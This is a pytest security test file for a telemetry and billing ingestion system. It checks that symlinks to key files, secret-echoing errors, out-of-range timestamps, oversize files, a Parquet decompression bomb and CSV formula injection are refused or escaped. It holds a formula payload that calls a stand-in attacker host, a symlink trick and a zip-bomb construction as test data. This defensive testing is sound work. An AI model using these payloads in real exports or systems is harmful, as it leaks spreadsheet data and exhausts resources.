"""Attacks through landing files and exports (issue 15, attacks 13 to 16)."""

from __future__ import annotations

import csv
import io
import json
import logging
from collections.abc import Iterator

import pandas as pd
import psycopg
import pytest

from core.db import scratch_database
from ingestion.errors import IngestError
from ingestion.loader import ingest_file

SECRET = "K3Y-MATERIAL-do-not-leak-0123456789abcdefghijklmnopqrstuvwxyz"


@pytest.fixture()
def raw_db(database_url: str) -> Iterator[str]:
    with scratch_database(database_url, "hcp_sec_raw") as url:
        yield url


def test_symlink_to_the_key_file_is_refused_and_nothing_leaks(raw_db, tmp_path, caplog):
    key_file = tmp_path / "pii.key"
    key_file.write_text(SECRET + "\n")
    landing = tmp_path / "landing"
    landing.mkdir()
    link = landing / "telemetry.csv"
    link.symlink_to(key_file)
    caplog.set_level(logging.DEBUG)
    with pytest.raises(IngestError, match="symbolic link") as err:
        ingest_file(raw_db, "telemetry", link)
    assert SECRET[:8] not in str(err.value)
    assert SECRET[:8] not in caplog.text
    with psycopg.connect(raw_db) as conn:
        stored = conn.execute("select string_agg(t::text, ' ') from raw.load_log as t").fetchone()[0] or ""
        stored += conn.execute(
            "select coalesce(string_agg(q::text, ' '), '') from raw.quarantine q"
        ).fetchone()[0]
    assert SECRET[:8] not in stored


def test_header_errors_echo_only_a_few_bytes(raw_db, tmp_path):
    bad = tmp_path / "telemetry.csv"
    bad.write_text(SECRET + "," + SECRET + "\n1,2\n")
    with pytest.raises(IngestError) as err:
        ingest_file(raw_db, "telemetry", bad)
    assert SECRET[:30] not in str(err.value)


def _miner(when) -> str:
    return json.dumps(
        {
            "device_id": "asic-0001",
            "summary": {
                "STATUS": [{"STATUS": "S", "When": when}],
                "SUMMARY": [{"GHS 5s": 1.0, "Power": 3000}],
            },
            "stats": {"STATUS": [{"STATUS": "S"}], "STATS": [{}, {"temp1": 50}]},
        }
    )


def test_overflowing_and_1970_timestamps_are_quarantined(raw_db, tmp_path):
    path = tmp_path / "miner.jsonl"
    path.write_text("\n".join([_miner(1e20), _miner(0), _miner(-1e300), _miner(1768435200)]) + "\n")
    result = ingest_file(raw_db, "miner", path)  # no OverflowError
    assert result.rows_in == 4
    with psycopg.connect(raw_db) as conn:
        reasons = conn.execute(
            "select line_no, field, reason from raw.quarantine order by line_no"
        ).fetchall()
        oldest = conn.execute("select min(ts) from raw.device_telemetry").fetchone()[0]
    window = {line: reason for line, field, reason in reasons if field == "When"}
    assert set(window) == {1, 2, 3}
    assert all("time window" in reason for reason in window.values())
    assert oldest is None or oldest.year >= 2000  # nothing from 1970 reaches dedup or the table


WINDOW_CASES = {
    # kind: (file name, header, a row at 1970, a row in 2101, a good row)
    "prices": (
        "prices.csv",
        "market,node_name,price_kind,interval_start_utc,interval_minutes,price_usd_per_mwh",
        "ERCOT,HB_WEST,rt,1970-01-01T00:00:00Z,15,18.5",
        "ERCOT,HB_WEST,rt,2101-01-01T00:00:00Z,15,18.5",
        "ERCOT,HB_WEST,rt,2026-01-15T06:00:00Z,15,18.5",
    ),
    "bitcoin": (
        "btc.csv",
        "date,btc_price_usd,difficulty,block_subsidy_btc,fees_btc_per_block",
        "1970-01-01,97000.5,109780000000000,3.125,0.02",
        "2101-01-01,97000.5,109780000000000,3.125,0.02",
        "2026-01-15,98250.25,109780000000000,3.125,0.031",
    ),
    "site-meter": (
        "site_meter.csv",
        "facility_id,ts,power_kw",
        "fac-tx1,1970-01-01T00:00:00Z,15321.5",
        "fac-tx1,2101-01-01T00:00:00Z,15321.5",
        "fac-tx1,2026-01-15T00:00:00Z,15321.5",
    ),
    "rate-cards": (
        "rate_cards.csv",
        "rate_card_id,customer_id,gpu_model,workload_type,price_usd_per_gpu_hour,min_increment_seconds,effective_from",
        "rc-old,,NVIDIA H100 80GB HBM3,inference,2.49,60,1970-01-01T00:00:00Z",
        "rc-far,,NVIDIA H100 80GB HBM3,inference,2.49,60,2101-01-01T00:00:00Z",
        "rc-ok,,NVIDIA H100 80GB HBM3,inference,2.49,60,2026-01-01T00:00:00Z",
    ),
    "demand-response": (
        "demand_response.csv",
        "event_id,facility_id,start_at,end_at,curtail_kw,credit_usd_per_mwh",
        "dr-old,fac-tx1,1970-01-01T20:00:00Z,1970-01-01T22:00:00Z,5000,150",
        "dr-far,fac-tx1,2101-01-20T20:00:00Z,2101-01-20T22:00:00Z,5000,150",
        "dr-ok,fac-tx1,2026-01-20T20:00:00Z,2026-01-20T22:00:00Z,5000,150",
    ),
    "events": (
        "events.jsonl",
        None,
        '{"event_id": "e-old", "workload_id": "w", "customer_id": "c", "event_type": "submitted", '
        '"event_at": "1970-01-01T00:00:00Z"}',
        '{"event_id": "e-far", "workload_id": "w", "customer_id": "c", "event_type": "submitted", '
        '"event_at": "2101-01-01T00:00:00Z"}',
        '{"event_id": "e-ok", "workload_id": "w", "customer_id": "c", "event_type": "submitted", '
        '"event_at": "2026-01-15T00:00:00Z"}',
    ),
}


@pytest.mark.parametrize("kind", sorted(WINDOW_CASES))
def test_timestamps_outside_the_window_are_quarantined_in_every_format(raw_db, tmp_path, kind):
    """The sane time window (HCP_INGEST_EARLIEST, HCP_INGEST_MAX_DAYS_AHEAD) holds for every input
    with timestamps, not only miner polls: rows before it are quarantined with the reason, and so
    are rows past it (effective dates of rate cards may lie further ahead)."""
    name, header, old, far, good = WINDOW_CASES[kind]
    if kind == "site-meter":  # meters of a registered facility only
        with psycopg.connect(raw_db) as conn:
            conn.execute(
                """insert into raw.facilities values ('fac-tx1', 'Site', 'ERCOT', 'HB_WEST', 'America/Chicago',
                       1000, 1.1, 1)"""
            )
    path = tmp_path / name
    path.write_text("\n".join([*([header] if header else []), old, far, good]) + "\n")
    result = ingest_file(raw_db, kind, path)
    assert result.rows_in == 3
    with psycopg.connect(raw_db) as conn:
        reasons = [r[0] for r in conn.execute("select reason from raw.quarantine order by line_no")]
        assert conn.execute("select count(*) from raw.load_log").fetchone()[0] == 1
    # the 1970 row is outside the window; the 2101 row is past it (or, for observations, already
    # "in the future" by the tighter tolerance of validation); a rate card may take effect later
    expected = 1 if kind == "rate-cards" else 2
    assert len(reasons) == expected, reasons
    assert "time window" in reasons[0], reasons
    assert all("time window" in reason or "in the future" in reason for reason in reasons), reasons


def test_file_over_the_size_limit_is_refused(raw_db, tmp_path, monkeypatch):
    monkeypatch.setenv("HCP_INGEST_MAX_FILE_MB", "0.001")  # about 1 KB
    big = tmp_path / "telemetry.csv"
    big.write_text("device_id,ts,power_kw\n" + "asic-0001,2026-01-15T00:00:00Z,3.41\n" * 100)
    with pytest.raises(IngestError, match="over the limit"):
        ingest_file(raw_db, "telemetry", big)


def test_parquet_over_the_decompressed_size_limit_is_refused(raw_db, tmp_path, monkeypatch):
    """A small Parquet file that decompresses to far more (a zip bomb) is refused from its metadata,
    before its pages are read, with an error naming the file; a file under the limit loads."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    rows = 200_000
    table = pa.table(
        {
            "device_id": ["asic-0001"] * rows,
            "ts": pa.array(
                [1768435200_000_000 + i * 1_000_000 for i in range(rows)], pa.timestamp("us", "UTC")
            ),
            "power_kw": [3.41] * rows,
            "note": ["x" * 200] * rows,  # compresses to nearly nothing
        }
    )
    bomb = tmp_path / "bomb.parquet"
    pq.write_table(table, bomb, compression="zstd", use_dictionary=False)
    assert bomb.stat().st_size < 5 * 1024 * 1024 < pq.ParquetFile(bomb).metadata.row_group(0).total_byte_size
    monkeypatch.setenv("HCP_INGEST_MAX_FILE_MB", "5")  # the file itself is under the file limit
    monkeypatch.setenv("HCP_INGEST_MAX_PARQUET_MB", "5")
    with pytest.raises(IngestError, match="HCP_INGEST_MAX_PARQUET_MB") as err:
        ingest_file(raw_db, "telemetry", bomb)
    assert "bomb.parquet" in str(err.value) and "uncompressed" in str(err.value)
    with psycopg.connect(raw_db) as conn:
        assert conn.execute("select count(*) from raw.device_telemetry").fetchone()[0] == 0
    small = tmp_path / "small.parquet"
    pq.write_table(table.slice(0, 10).drop_columns(["note"]), small)
    assert ingest_file(raw_db, "telemetry", small).rows_in == 10


def test_csv_exports_escape_formulas(conn):
    from billing.reports import render_invoice_csv, safe_csv

    payload = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
    with conn.transaction():
        invoice_id = conn.execute(
            """insert into billing.invoices (customer_id, period, period_start, period_end, timezone)
               values ('sec-csv', '2031-01', '2031-01-01', '2031-02-01', 'UTC') returning invoice_id"""
        ).fetchone()[0]
        conn.execute(
            """insert into billing.invoice_lines (invoice_id, line_no, line_kind, description, quantity, unit,
                   unit_price_usd, amount_usd) values (%s, 1, 'usage', %s, 1, 'GPU-hour', 1, -1)""",
            (invoice_id, payload),
        )
    try:
        _, content = render_invoice_csv(conn, invoice_id)
        rows = list(csv.DictReader(io.StringIO(content.decode())))
        assert rows[0]["description"] == "'" + payload
        assert rows[0]["amount_usd"] == "-1.00"  # numbers stay numbers
        exported = safe_csv(pd.DataFrame({"customer_id": ["@SUM(1+1)", "plain"], "total": [-3.5, 2.0]}))
        assert list(csv.reader(io.StringIO(exported.decode())))[1:] == [
            ["'@SUM(1+1)", "-3.5"],
            ["plain", "2.0"],
        ]
    finally:
        conn.execute("delete from billing.invoices where invoice_id = %s", (invoice_id,))
